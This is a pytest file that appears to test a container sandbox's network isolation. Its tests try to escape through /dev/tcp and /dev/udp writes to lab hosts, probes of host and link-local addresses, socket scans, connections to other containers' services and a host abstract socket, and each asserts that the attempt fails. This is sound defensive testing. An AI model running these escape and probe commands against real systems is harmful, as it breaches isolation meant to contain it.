"""Other protocols, the host, other containers, sockets; and flows that outlive their permission."""

from __future__ import annotations

import socket
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from attack_support import FOUR, LAB, RAW, UNNAMED, UNNAMED6, Walled
from support import Shell, host_address

Lab = Callable[[], list[dict]]
Listen = Callable[[str], tuple[int, Callable[[], int]]]


@pytest.mark.attack("NET-1")
def test_no_other_protocol_gets_out(walled: Walled, lab: Lab) -> None:
    for user in ("dev", "0"):
        walled.sh(RAW % (UNNAMED, UNNAMED6), user=user)
        for address in (UNNAMED, UNNAMED6):
            walled.sh(f"for p in 53 443 5353 8080; do echo x > /dev/udp/{address}/$p; done", user=user)
    assert "laboratory" in walled.fetch("mark.attack.test"), "what was sent before this would be recorded by now"
    assert {one["port"] for one in lab()} == {80}


@pytest.mark.attack("NET-2")
@pytest.mark.parametrize("name", ["four.attack.test", "six.attack.test"])
def test_a_denial_ends_a_running_download(walled: Walled, lab: Lab, name: str) -> None:
    if walled.mode == "filter":
        script = f"exec 3<>/dev/tcp/{name}/8080; cat <&3"
    else:
        script = (
            "exec 3<>/dev/tcp/127.0.0.1/9421; "
            f"printf 'GET http://{name}:8080/ HTTP/1.1\\r\\nHost: {name}:8080\\r\\n\\r\\n' >&3; cat <&3"
        )
    words = ["podman", "exec", "-i", walled.name, "bash", "-c", script]
    with subprocess.Popen(words, env=walled.ready.environment, stdout=subprocess.PIPE, text=True) as download:
        assert download.stdout is not None
        assert download.stdout.readline() == "tick\n"
        walled.ready("terok-sandbox", "shield", "deny", walled.name, name, "--reason", "enough")
        began = time.monotonic()
        while download.stdout.readline():
            pass
        assert time.monotonic() - began < 20, "it would go on for half a minute"
        assert download.wait(60) is not None
    assert "tick" not in walled.fetch(name, 8080)
    walled.ready("terok-sandbox", "shield", "revoke", walled.name, name)
    assert len(lab()) == 1


@pytest.mark.attack("NET-2")
@pytest.mark.attack("OPS-2")
def test_quarantine_lets_nothing_out_and_survives_a_restart(walled: Walled, lab: Lab) -> None:
    assert "laboratory" in walled.fetch("four.attack.test")
    known = len(lab())
    walled.ready("terok-sandbox", "shield", "quarantine", walled.name)
    assert "laboratory" not in walled.fetch("web.attack.test")
    walled.ready("terok-sandbox", "stop", "--timeout", "1", walled.name)
    walled.ready("terok-sandbox", "start", walled.name)
    assert walled.ready("terok-sandbox", "shield", "status", "--json", walled.name).json()["posture"] == "quarantine"
    assert "laboratory" not in walled.fetch("web.attack.test")
    walled.ready("terok-sandbox", "shield", "up", walled.name)
    assert "laboratory" not in walled.fetch(FOUR), "what a name had opened is closed until it is asked for again"
    assert len(lab()) == known
    assert "laboratory" in walled.fetch("web.attack.test")


@pytest.mark.attack("NET-3")
@pytest.mark.attack("NET-5")
def test_the_host_and_its_control_sockets_are_out_of_reach(walled: Walled, listener: Listen) -> None:
    for address in (host_address(), "127.0.0.1"):
        port, connections = listener(address)
        walled.fetches((address, "10.0.2.2", "10.0.2.3", "169.254.1.2", "fd00::2", "2001:db8:1::1"), port)
        assert connections() == 0
    sockets = walled.sh("find /run /var /tmp /dev -type s 2>/dev/null")[1].split()
    assert set(sockets) <= {"/run/terok/vault.sock", "/run/terok/ssh-agent.sock"}
    if walled.mode == "airlock":
        for path in ("/-/health", "/"):
            walled.raw("127.0.0.1", 9421, f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())
        assert " 40" in walled.raw("127.0.0.1", 9421, b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")


@pytest.mark.attack("NET-4")
def test_another_containers_services_are_out_of_reach(
    walled: Walled, ready: Shell, base_image: str, container: str
) -> None:
    ready("terok-sandbox", "run", "-d", "--name", container, base_image, "--", "sleep", "600")
    own = {
        line.split()[-1] for line in ready("podman", "exec", container, "cat", "/proc/net/fib_trie").out.splitlines()
    }
    for address in sorted(one for one in own if one.count(".") == 3 and not one.startswith(("127.", "0."))):
        for port in (53, 9418, 9419, 9421):
            assert walled.sh(f"timeout 3 bash -c 'echo x > /dev/tcp/{address}/{port}'")[0] != 0


@pytest.mark.attack("NET-6")
@pytest.mark.parametrize("mode", [[], ["--airlock"]])
def test_nothing_gets_out_while_the_container_starts(
    ready: Shell, base_image: str, container: str, lab: Lab, mode: list[str]
) -> None:
    tries = f"(echo x > /dev/tcp/{LAB}/80) 2>/dev/null && echo hole; echo x > /dev/udp/{LAB}/53"
    loop = f"for i in $(seq 300); do {tries}; done"
    out = ready("terok-sandbox", "run", "--name", container, *mode, base_image, "--", "bash", "-c", loop, code=None)
    assert "hole" not in out.out
    assert lab() == []


@pytest.mark.attack("SOCK-1")
def test_abstract_sockets_of_the_host_are_out_of_reach(walled: Walled) -> None:
    with socket.socket(socket.AF_UNIX) as one:
        one.bind("\0terok-attack-abstract")
        one.listen()
        assert "terok-attack-abstract" in Path("/proc/net/unix").read_text()
        script = """perl -MSocket -e 'socket(my $s, AF_UNIX, SOCK_STREAM, 0);
            exit(connect($s, pack_sockaddr_un("\\0terok-attack-abstract")) ? 0 : 7)'"""
        assert walled.sh(script)[0] == 7
    assert walled.sh("grep -c '@' /proc/net/unix")[1].strip() == "0"
